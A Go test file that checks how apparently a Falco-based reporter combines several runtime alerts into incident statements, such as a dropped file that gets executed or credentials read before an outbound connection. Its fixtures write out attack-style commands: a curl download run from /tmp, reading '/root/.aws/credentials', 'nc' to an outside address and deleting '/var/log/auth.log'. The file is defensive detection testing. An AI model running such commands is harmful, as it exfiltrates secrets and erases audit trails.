package incident_test

import (
	"strings"
	"testing"
	"time"

	"github.com/falco-reporter/falco-reporter/internal/alert"
	"github.com/falco-reporter/falco-reporter/internal/enrich/incident"
)

// does is what a child of the shell with pid 100 does.
func does(pid int, name, cmdline, call string, over ...any) map[string]any {
	return fields(process(pid, 100, name, "bash"), append([]any{"proc.cmdline", cmdline, "evt.type", call, "fd.name", nil}, over...)...)
}

// TestCombinations: what only several alerts show together, in the order in which it happened,
// and what only looks like it.
func TestCombinations(t *testing.T) {
	create := does(101, "cp", "cp /bin/true /tmp/t", "openat", "evt.arg.name", "/tmp/t", "evt.arg.mode", "0644")
	allow := does(102, "chmod", "chmod +x /tmp/t", "fchmodat", "evt.arg.filename", "/tmp/t", "evt.arg.mode", "S_IXUSR|S_IRUSR")
	run := does(103, "t", "/tmp/t", "execve", "proc.exepath", "/tmp/t")
	download := does(104, "curl", "curl -s -o /tmp/t https://x.example/t", "execve", "proc.exepath", "/usr/bin/curl")
	secret := does(105, "cat", "cat /root/.aws/credentials", "openat", "fd.name", "/root/.aws/credentials")
	send := does(106, "nc", "nc 198.51.100.7 80", "connect", "fd.name", "10.0.0.1:5000->198.51.100.7:80", "fd.type", "ipv4", "fd.sip", "198.51.100.7", "fd.sport", 80)
	shell := does(107, "sh", "sh -c id", "execve", "proc.exepath", "/usr/bin/dash")
	wipe := does(108, "python3", "python3 w.py", "unlink", "evt.arg.path", "/var/log/auth.log", "proc.pname", "python3")
	const (
		dropped  = "“/tmp/t” was created, then made executable, then executed."
		half     = "“/tmp/t” was created and then made executable."
		fetched  = "A download was to be saved as “/tmp/t”, and then “/tmp/t” was executed."
		sent     = "“/root/.aws/credentials”, which holds credentials, was opened before a connection to “198.51.100.7”."
		removed  = "After a shell had been at work, “/var/log/auth.log” was emptied, moved or removed."
		noReport = ""

		maybeDropped = "Calls to create “/tmp/t”, to make it executable and to execute it came in this order; not all results are shown."
		maybeHalf    = "Calls to create “/tmp/t” and to make it executable came in this order; not all results are shown."
		maybeSent    = "A call to open “/root/.aws/credentials”, which holds credentials, came before one to reach “198.51.100.7”; not all results are shown."
		maybeRemoved = "After a shell had been at work, a call came to empty, move or remove “/var/log/auth.log”; its result is not shown."
	)
	for _, test := range []struct {
		name  string
		does  []map[string]any
		want  string
		level string
	}{
		{"dropped, made executable, executed", []map[string]any{create, allow, run}, dropped, "page"},
		{"not executed", []map[string]any{create, allow}, half, "today"},
		{"dropped, results unknown", []map[string]any{fields(create, "evt.res", nil), fields(allow, "evt.res", nil), run}, dropped, "page"},
		{"dropped and named by a shell", []map[string]any{create, allow, fields(run, "evt.res", nil, "proc.exepath", "/usr/bin/dash", "proc.name", "sh", "proc.cmdline", "sh -c /tmp/t")}, maybeDropped, "page"},
		{"not executed, results unknown", []map[string]any{fields(create, "evt.res", nil), allow}, maybeHalf, "today"},
		{"credentials and connection, results unknown", []map[string]any{secret, fields(send, "evt.res", nil)}, maybeSent, "page"},
		{"shell and log, result unknown", []map[string]any{shell, fields(wipe, "evt.res", nil)}, maybeRemoved, "today"},
		{"made executable by another name", []map[string]any{create, fields(allow, "evt.arg.filename", "/tmp/u")}, noReport, ""},
		{"chmod was refused", []map[string]any{create, fields(allow, "evt.res", "EPERM")}, noReport, ""},
		{"made executable before", []map[string]any{allow, create}, noReport, ""},
		{"the mode gives no right to execute", []map[string]any{create, fields(allow, "evt.arg.mode", "S_IRUSR")}, noReport, ""},
		{"start failed", []map[string]any{create, allow, fields(run, "evt.res", "EACCES")}, half, "today"},
		{"downloaded and executed", []map[string]any{download, run}, fetched, "page"},
		{"executed and downloaded", []map[string]any{run, download}, noReport, ""},
		{"printed and something executed", []map[string]any{fields(download, "proc.cmdline", "curl -s https://x.example/t"), run}, noReport, ""},
		{"credentials and connection", []map[string]any{secret, send}, sent, "page"},
		{"connection and credentials", []map[string]any{send, secret}, noReport, ""},
		{"connection to itself", []map[string]any{secret, fields(send, "fd.sip", "127.0.0.1", "fd.name", "127.0.0.1:5000->127.0.0.1:80")}, noReport, ""},
		{"connection was refused", []map[string]any{secret, fields(send, "evt.res", "EACCES")}, noReport, ""},
		{"shell and log", []map[string]any{shell, wipe}, removed, "today"},
		{"no shell and log", []map[string]any{fields(shell, "proc.name", "id", "proc.pname", "make"), wipe}, noReport, ""},
		{"log is only opened", []map[string]any{shell, fields(wipe, "evt.type", "openat", "fd.name", "/var/log/auth.log")}, noReport, ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			var alerts []*alert.Alert
			for i, f := range test.does {
				alerts = append(alerts, made(t, time.Duration(i)*time.Second, "R"+string(rune('0'+i)), "Notice", f))
			}
			reports := final(t, joined(t, incident.Options{}, alerts))
			if len(reports) != 1 {
				t.Fatalf("%d reports", len(reports))
			}
			first := reports[0].GetShown()[0]
			combined := len(first.GetAlertIds()) > 1 && first.GetStatement() == test.want
			if test.want != noReport && (!combined || level(reports[0]) != test.level) {
				t.Errorf("%s: %s", level(reports[0]), first)
			}
			for _, f := range reports[0].GetShown() {
				if test.want == noReport && strings.Contains(dropped+half+fetched+sent+removed+maybeDropped+maybeHalf+maybeSent+maybeRemoved, f.GetStatement()) {
					t.Errorf("told: %s", f.GetStatement())
				}
			}
		})
	}
}

// TestCombinationNeedsOneTree: what different trees of a host do is not combined, even in one
// report.
func TestCombinationNeedsOneTree(t *testing.T) {
	shell := fields(process(300, 200, "bash", "make"), "evt.type", "execve")
	wipe := fields(process(400, 201, "bash", "make"), "evt.type", "unlink", "fd.name", nil, "evt.arg.path", "/var/log/auth.log")
	reports := final(t, joined(t, incident.Options{}, []*alert.Alert{made(t, 0, "R", "Notice", shell), made(t, 1e9, "R", "Notice", wipe)}))
	if len(reports) != 1 {
		t.Fatalf("%d reports", len(reports))
	}
	for _, f := range reports[0].GetShown() {
		if strings.HasPrefix(f.GetStatement(), "After a shell") {
			t.Error(f)
		}
	}
}
